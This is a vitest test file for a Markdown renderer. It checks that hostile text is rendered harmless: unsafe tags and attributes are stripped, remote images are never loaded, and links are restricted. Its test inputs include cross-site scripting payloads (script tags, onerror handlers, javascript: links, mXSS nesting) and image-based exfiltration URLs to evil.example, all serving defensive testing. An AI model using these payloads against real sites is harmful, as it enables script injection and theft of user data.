// @vitest-environment jsdom
import { beforeEach, describe, expect, it } from "vitest";
import { Renderer } from "../src/markdown/render";

const ALLOWED = new Set(
  "P H3 H4 H5 UL OL LI BLOCKQUOTE HR TABLE THEAD TBODY TR TH TD DIV PRE CODE STRONG EM DEL BR A BDI SPAN BUTTON".split(
    " ",
  ),
);
const ALLOWED_ATTRIBUTES = new Set(
  "dir class href target rel title tabindex type start data-align role aria-label".split(" "),
);

function shown(text: string): HTMLElement {
  const box = document.createElement("div");
  new Renderer(box).show(text);
  return box;
}

/** Shows `text` in pieces of one character, looking at every moment in between, and gives what stands there at the end. */
function streamed(text: string, look: (box: HTMLElement) => void = () => undefined): HTMLElement {
  const box = document.createElement("div");
  const renderer = new Renderer(box);
  const points = [...text];
  for (let end = 1; end <= points.length; end += 1) {
    renderer.show(points.slice(0, end).join(""));
    look(box);
  }
  return box;
}

function expectHarmless(box: HTMLElement): void {
  for (const element of box.querySelectorAll("*")) {
    expect(ALLOWED).toContain(element.tagName);
    for (const { name } of element.attributes) expect(ALLOWED_ATTRIBUTES).toContain(name);
  }
}

function links(text: string): HTMLAnchorElement[] {
  return [...shown(text).querySelectorAll("a")];
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><circle/></svg>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
  "<style>*{background:url(https://evil.example/)}</style>",
  '<form action="https://evil.example/"><button>go</button></form>',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt&#58;alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  '<a href="\tjavascript:alert(1)">x</a>',
  "[x](java\tscript:alert(1))",
  "text <b onclick=alert(1)>bold</b>\n\n- <img src=x>\n\n| <svg> |\n|---|\n| <img src=x onerror=alert(1)> |",
];

describe("hostile text", () => {
  it.each(HOSTILE)("never becomes an element, an attribute or a running link: %s (sec_G1, B97)", (text) => {
    const box = shown(text);
    expectHarmless(box);
    // A bare address in it may be a link like any other; it leads where it says, and after a click.
    for (const { protocol, rel, textContent, href } of box.querySelectorAll("a")) {
      expect([protocol, rel, encodeURI(textContent ?? "")]).toEqual([
        "https:",
        "noreferrer noopener",
        encodeURI(decodeURI(href)),
      ]);
    }
  });

  it.each(HOSTILE)("is harmless at every moment of streaming: %s (B104)", (text) => {
    streamed(text, expectHarmless);
  });

  it("keeps a tag that is not one readable as text (sec_G1)", () => {
    expect(shown("<script>alert(1)</script>").textContent).toBe("<script>alert(1)</script>");
    expect(shown("a <b>c</b> d").textContent).toBe("a <b>c</b> d");
  });

  it("still reads Markdown inside and after a tag (sec_G1)", () => {
    const box = shown("<div>\n**x**\n</div>\n\n- y");
    expect(box.querySelector("strong")?.textContent).toBe("x");
    expect(box.querySelector("li")?.textContent).toBe("y");
  });

  it("never gives an id or a name (sec_G12)", () => {
    const box = shown(
      '# location\n\n<a id="defaultView" name="body">x</a>\n\n<form name=cookie>\n\n[x][id]\n\n[id]: https://a.example/ "id=x"',
    );
    expect(box.querySelectorAll("[id],[name]").length).toBe(0);
  });

  it("cut tags and entities in odd pieces end as plain text (B104)", () => {
    const box = document.createElement("div");
    const renderer = new Renderer(box);
    let text = "";
    for (const piece of ["<im", "g src=x one", "rror=alert(1)>", " &l", "t;b&g", "t;"]) {
      text += piece;
      renderer.show(text);
      expectHarmless(box);
    }
    expect(box.textContent).toBe("<img src=x onerror=alert(1)> <b>");
  });
});

describe("pictures", () => {
  it.each([
    "![x](https://evil.example/?q=secret)",
    "![a][r]\n\n[r]: https://evil.example/?d=1",
    "[![x](https://evil.example/p.png)](https://evil.example/)",
    "![x](data:image/png;base64,AAAA)",
    '<img src="https://evil.example/">',
    "<picture><source srcset=https://evil.example/></picture>",
  ])("are never loaded, whatever way they are written: %s (sec_G2, B99, B129)", (text) => {
    streamed(text, (box) => {
      expectHarmless(box);
      expect(box.querySelector("img,picture,source,video,audio,link,object,embed")).toBeNull();
    });
  });

  it("stand as a link that says it is a picture and where it lies (B99)", () => {
    const box = shown("![plan](https://files.example/a.png)");
    expect(box.textContent).toBe("Picture: plan (files.example)");
    expect(box.querySelector("a")?.href).toBe("https://files.example/a.png");
  });
});

describe("links", () => {
  it("open safely and show their host (UI3)", () => {
    const box = shown("[the catalogue](https://shop.example/a/b)");
    const link = box.querySelector("a");
    expect(link?.rel).toBe("noreferrer noopener");
    expect(link?.target).toBe("_blank");
    expect(link?.title).toBe("https://shop.example/a/b");
    expect(box.textContent).toBe("the catalogue (shop.example)");
  });

  it("do not say the host twice if their words are the address (UI3)", () => {
    expect(shown("https://shop.example/a").textContent).toBe("https://shop.example/a");
    expect(shown("<https://shop.example/a>").textContent).toBe("https://shop.example/a");
  });

  it("show the true host if their words are another address (UI3)", () => {
    expect(shown("[https://bank.example/](https://evil.example/)").textContent).toBe(
      "https://bank.example/ (evil.example)",
    );
  });

  it("lead to paths of this site without a host (UI3)", () => {
    const [link] = links("[PO-1](/admin/shop/order/1/change/?a=1#b)");
    expect(link?.getAttribute("href")).toBe("/admin/shop/order/1/change/?a=1#b");
  });

  it.each([
    "[x](//evil.example/a)",
    "[x](/\\evil.example/a)",
    "[x](\\\\evil.example)",
    "[x](<java\tscript:alert(1)>)",
    "[x](<https://evil.example/a b>)",
    "[x](https://bank.example@evil.example/)",
    "[x](ftp://evil.example/)",
    "[x](file:///etc/passwd)",
    "[x](relative/path)",
    "[x](#there)",
    "[x](blob:https://evil.example/1)",
    "[x](&#106;avascript:alert(1))",
    "[x](&Tab;javascript:alert(1))",
    "[x](mailto:a@b.example,c@d.example)",
  ])("are text if they lead anywhere else: %s (sec_G5)", (text) => {
    expect(links(text)).toEqual([]);
    expect(shown(text).textContent).toMatch(/x/);
  });

  it("that carry much are shown with their host and cannot be clicked before they were looked at (sec_G7)", () => {
    const data = "d".repeat(2_000);
    const box = shown(`[x](https://evil.example/?q=${data})`);
    expect(box.querySelector("a")).toBeNull();
    expect(box.textContent).toContain("evil.example");
    box.querySelector("button")?.click();
    expect(box.textContent).toContain(data);
    expect(box.querySelector("a")?.href).toBe(`https://evil.example/?q=${data}`);
    expect(box.querySelector("a")?.rel).toBe("noreferrer noopener");
  });

  it("carry much also by path, fragment or a mail's body (sec_G7)", () => {
    const data = "d".repeat(300);
    for (const where of [`https://e.example/${data}`, `https://e.example/#${data}`, "mailto:a@e.example?body=secret"]) {
      expect(links(`[x](${where})`)).toEqual([]);
    }
  });

  it("written by reference or as an autolink follow the same rules (B129)", () => {
    const box = shown("[a][r] and <https://evil.example>\n\n[r]: https://evil.example/?d=1");
    expect([...box.querySelectorAll("a")].map(({ rel }) => rel)).toEqual([
      "noreferrer noopener",
      "noreferrer noopener",
    ]);
    expect(links("[a][r]\n\n[r]: javascript:alert(1)")).toEqual([]);
  });
});

const WHOLE = [
  "```py\nprint(1)\n```\n| a | b |\n|---|---|\n| 1 | 2 |",
  "# Head\n\nText with **bold**, *em*, `code` and [a][r].\n\n1. one\n2. two\n   - deep\n\n> quoted\n> on\n\n---\n\n[r]: https://a.example/",
  "- [ ] open\n- [x] done\n\n~~gone~~ &amp; &copy; &unknown; <br> x",
  "سطر أول\n\n- פריט\n- item\n\n```\nunfinished",
  "a\n===\n\nb\n---\n\nline  \nbreak",
];

describe("streaming", () => {
  it.each(WHOLE)("character by character ends as the same nodes as a reload: %j (B102)", (text) => {
    const box = streamed(text, expectHarmless);
    expect(box.innerHTML).toBe(shown(text).innerHTML);
  });

  it("keeps the nodes of blocks that are finished, so that a selection in them stays (B102)", () => {
    const box = document.createElement("div");
    const renderer = new Renderer(box);
    renderer.show("First paragraph.\n\nSec");
    const first = box.firstElementChild;
    renderer.show("First paragraph.\n\nSecond one.");
    expect(box.firstElementChild).toBe(first);
    expect(box.children.length).toBe(2);
  });

  it("never shows the signs of a code fence once the fence is whole (B102)", () => {
    const text = "```py\nprint(1)\n```\n";
    streamed(text, (box) => {
      if (box.querySelector("pre")) expect(box.textContent).not.toContain("```py");
    });
  });
});

describe("text that is no prose", () => {
  it.each([">".repeat(20_000), "> - ".repeat(3_000), "1. ".repeat(3_000)])(
    "never breaks the panel, however deep it nests (%#)",
    (text) => {
      const box = document.createElement("div");
      const renderer = new Renderer(box);
      renderer.show("Before.");
      renderer.show(text);
      expect(box.textContent?.length).toBeGreaterThan(0);
      expect(box.querySelectorAll("blockquote,ul").length).toBeLessThan(40);
      renderer.show("After.");
      expect(box.innerHTML).toBe('<p dir="auto">After.</p>');
    },
  );
});

describe("plain words of a back office", () => {
  it.each([
    "Costs $5 and $10; from $50 to $100",
    "path C:\\new_folder_1",
    "path C:\\\\new_folder_1",
    "2*3*4",
    "2**3**4",
    "a_b_c",
    "~5~",
    "#12",
    "5 * 3 * 2 and a < b > c & d",
    "\\\\server\\share",
  ])("stand as they are written: %s (B105)", (text) => {
    const box = shown(text);
    expect(box.textContent).toBe(text);
    expect(box.querySelector("em,del,strong,h3")).toBeNull();
  });

  it("in one line with bold stay literal (B105)", () => {
    const box = shown("Costs $5 and $10; **$4** left; path C:\\new_folder_1; 2*3*4; a_b_c; ~5~; #12");
    expect(box.textContent).toBe("Costs $5 and $10; $4 left; path C:\\new_folder_1; 2*3*4; a_b_c; ~5~; #12");
    expect(box.querySelector("strong")?.textContent).toBe("$4");
  });
});

describe("direction", () => {
  it("is each block's own (B106)", () => {
    const box = shown('An English paragraph.\n\nطلب "PO-123 (x2)"\n\n- פריט אחד\n- פריט שני');
    expect([...box.querySelectorAll("p,li")].every(({ dir }: Element & { dir?: string }) => dir === "auto")).toBe(true);
    expect(box.querySelector("ul")?.dir).toBe("rtl");
  });

  it("of code is always left to right (B106)", () => {
    expect(shown("```\nשלום\n```").querySelector("pre")?.dir).toBe("ltr");
  });
});

describe("tables and lists", () => {
  beforeEach(() => document.body.replaceChildren());

  it("keep alignment, first number and task marks (UI3)", () => {
    const box = shown("| a | b |\n|---|--:|\n| 1 | 2 |\n\n3. x\n4. y\n\n- [x] done");
    expect(box.querySelector("td:last-child")?.getAttribute("data-align")).toBe("right");
    expect(box.querySelector("ol")?.start).toBe(3);
    expect(box.querySelector("ul li")?.textContent).toBe("☑ done");
  });

  it("can be scrolled by keyboard (UI4)", () => {
    expect(shown("| a |\n|---|\n| 1 |").querySelector<HTMLElement>(".table")?.tabIndex).toBe(0);
  });
});
